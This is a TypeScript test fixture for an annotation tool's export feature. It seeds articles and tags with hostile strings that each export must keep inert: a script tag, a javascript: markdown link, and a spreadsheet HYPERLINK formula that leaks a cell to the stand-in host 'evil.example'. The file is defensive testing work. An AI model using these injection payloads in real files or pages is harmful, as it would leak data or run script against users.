import type { OpInput } from '../../shared/api/contract';
import type { ExportFormat } from '../../shared/api/exchange';
import { openTestWorkspace, type TestWorkspace } from './workspace';

/** Texts that must come out of every export inert and unchanged. */
export const HOSTILE = {
  script: '<script>alert("x")</script>',
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  mdLink: 'see [here](javascript:alert(1))',
  rtlHebrew: 'השגריר אמר כי הסנקציות יוסרו',
  rtlArabic: 'قال الوزير إن المحادثات ستستأنف',
};

export const PARAGRAPHS = [
  `Officials warned that ${HOSTILE.formula} would follow if talks stalled.`,
  `The ministry promised to resume talks next month, a spokesman said.`,
  `${HOSTILE.rtlHebrew}.`,
  `A second source said ${HOSTILE.script} was pasted into the statement.`,
  `${HOSTILE.rtlArabic}.`,
];

export interface ExportFixture {
  w: TestWorkspace;
  relId: number;
  codes: Record<string, number>;
  actors: { a: number; b: number };
  articleIds: number[];
}

/** A workspace with two articles and five tags (both directions, three codes), holding every hostile text. */
export async function exportFixture(opts: { now?: Date; dir?: string; analyst?: string } = {}): Promise<ExportFixture> {
  const w = openTestWorkspace({ now: opts.now ?? new Date('2026-06-15T12:00:00'), dir: opts.dir });
  const rel = (await w.ok('relationships:list', {}))[0]!;
  const codes = Object.fromEntries((await w.ok('codebook:list', {})).map((c: { key: string; id: number }) => [c.key, c.id]));
  if (opts.analyst) await w.ok('export:analyst', { name: opts.analyst });
  const text = PARAGRAPHS.join('\n\n');
  const a1 = await w.ok('articles:create', {
    title: `${HOSTILE.script} Talks and threats`,
    outlet: '=Outlet',
    url: 'https://news.example/a?b=1&c=2',
    publishedOn: '2026-05-20',
    relationshipId: rel.id,
    text,
  });
  const text2 = 'India offered to cut duties on farm goods. Washington welcomed the offer.';
  const a2 = await w.ok('articles:create', {
    title: 'Duty offer',
    outlet: 'Harbour Post',
    url: '',
    publishedOn: '2026-06-01',
    relationshipId: rel.id,
    text: text2,
  });
  const tag = async (
    articleId: number,
    body: string,
    quote: string,
    code: string,
    src: number,
    tgt: number,
    note: string,
    eventDate?: string,
  ) => {
    const start = body.indexOf(quote);
    if (start < 0) throw new Error(`fixture quote not found: ${quote}`);
    return w.ok('annotations:create', {
      articleId,
      start,
      end: start + quote.length,
      codeId: codes[code]!,
      sourceActorId: src,
      targetActorId: tgt,
      note,
      eventDate,
    });
  };
  const A = rel.actorA.id;
  const B = rel.actorB.id;
  await tag(
    a1.id,
    text,
    `Officials warned that ${HOSTILE.formula} would follow`,
    'THREAT.NONFORCE',
    A,
    B,
    `${HOSTILE.formula} ${HOSTILE.mdLink}`,
  );
  await tag(a1.id, text, 'The ministry promised to resume talks next month', 'OVERTURE', B, A, HOSTILE.script, '2026-05-21');
  await tag(a1.id, text, HOSTILE.rtlHebrew, 'CONCESSION', A, B, HOSTILE.rtlArabic);
  await tag(a1.id, text, `A second source said ${HOSTILE.script} was pasted`, 'THREAT', B, A, '');
  await tag(a2.id, text2, 'India offered to cut duties on farm goods', 'CONCESSION.VERBAL', B, A, 'Offer; not yet enacted.');
  return { w, relId: rel.id, codes, actors: { a: A, b: B }, articleIds: [a1.id, a2.id] };
}

export async function exportAs(
  f: ExportFixture,
  format: ExportFormat,
  extra: Partial<OpInput<'export:file'>> = {},
): Promise<{ fileName: string; bytes: Buffer; text: string }> {
  const r = await f.w.ok('export:file', { relationshipId: f.relId, format, ...extra });
  const bytes = r.encoding === 'base64' ? Buffer.from(r.content, 'base64') : Buffer.from(r.content, 'utf8');
  return { fileName: r.fileName, bytes, text: r.encoding === 'utf8' ? r.content : '' };
}

/** Adds an article to the fixture's relationship and tags each quote of it (a quote must occur in the text). */
export async function tagNewArticle(
  f: ExportFixture,
  article: { title: string; outlet: string; publishedOn: string; text: string },
  tags: { quote: string; codeId: number | undefined; sourceActorId: number; targetActorId: number; confidence?: number; note?: string }[],
): Promise<number[]> {
  const art = await f.w.ok('articles:create', { url: '', relationshipId: f.relId, ...article });
  const ids: number[] = [];
  for (const { quote, codeId, ...rest } of tags) {
    const start = article.text.indexOf(quote);
    if (start < 0) throw new Error(`fixture quote not found: ${quote}`);
    if (codeId === undefined) throw new Error(`fixture code unknown for: ${quote}`);
    ids.push((await f.w.ok('annotations:create', { articleId: art.id, start, end: start + quote.length, codeId, ...rest })).id);
  }
  return ids;
}
